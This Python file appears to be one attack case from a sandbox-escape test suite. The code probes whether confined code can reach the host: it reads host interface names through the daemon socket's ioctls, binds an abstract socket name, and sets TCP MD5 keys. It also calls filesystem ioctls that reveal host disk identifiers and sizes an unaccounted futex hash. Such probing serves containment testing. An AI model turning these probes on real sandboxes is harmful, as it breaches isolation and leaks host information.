# Attack: reach the host through what a sandbox holds or the kernel offers any process: the
# channel to the daemon (a Unix socket, whose network namespace decides which interfaces its
# ioctls see and where a bind() puts an abstract name), and kernel memory no limit counts (a
# private futex hash, TCP MD5 keys) or filesystem ioctls that name the host's disk.
from escape import channel_fd, os, outcome, real_import

SIOCGIFNAME = 0x8910
PR_FUTEX_HASH, PR_FUTEX_HASH_SET_SLOTS = 78, 1
TCP_MD5SIG = 14
EXT4_IOC_GET_ES_CACHE, FS_IOC_GETFSUUID, FS_IOC_GETFSSYSFSPATH = 0xC020662A, 0x80111500, 0x80811501


def attack(host_interfaces, abstract_name):
    """{"interfaces": names the channel's ioctls give for the host's interface indexes,
    "bind": the outcome of binding the channel to ``abstract_name``, and one outcome each for
    the futex hash, a TCP MD5 key and the filesystem ioctls}."""
    fcntl, socket, struct = real_import("fcntl"), real_import("socket"), real_import("struct")
    chan = channel_fd()

    def name_of(index):
        answer = fcntl.ioctl(chan, SIOCGIFNAME, struct.pack("16si20x", b"", index))
        return answer[:16].rstrip(b"\0").decode()

    seen = {str(index): outcome(lambda: name_of(index)) for index in host_interfaces}
    as_socket = socket.socket(fileno=os.dup(chan))
    bound = outcome(lambda: as_socket.bind("\0" + abstract_name))
    tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    md5 = outcome(lambda: tcp.setsockopt(socket.IPPROTO_TCP, TCP_MD5SIG, bytes(216)))
    file_fd = os.open(os.__file__, os.O_RDONLY)
    folder_fd = os.open(os.path.dirname(os.__file__), os.O_RDONLY | os.O_DIRECTORY)
    ioctls = {name: outcome(lambda: fcntl.ioctl(fd, request, bytes(size)))
              for name, fd, request, size in (("es_cache", file_fd, EXT4_IOC_GET_ES_CACHE, 32),
                                              ("fsuuid", folder_fd, FS_IOC_GETFSUUID, 17),
                                              ("sysfs_path", folder_fd, FS_IOC_GETFSSYSFSPATH, 129))}
    ctypes = real_import("ctypes")
    libc = ctypes.CDLL(None, use_errno=True)
    ctypes.set_errno(0)
    hashed = libc.prctl(PR_FUTEX_HASH, PR_FUTEX_HASH_SET_SLOTS, ctypes.c_ulong(1 << 10), 0, 0)
    futex_hash = "ok" if hashed == 0 else real_import("errno").errorcode.get(ctypes.get_errno(), "?")
    return {"interfaces": seen, "bind": bound, "md5": md5, "ioctls": ioctls, "futex_hash": futex_hash}
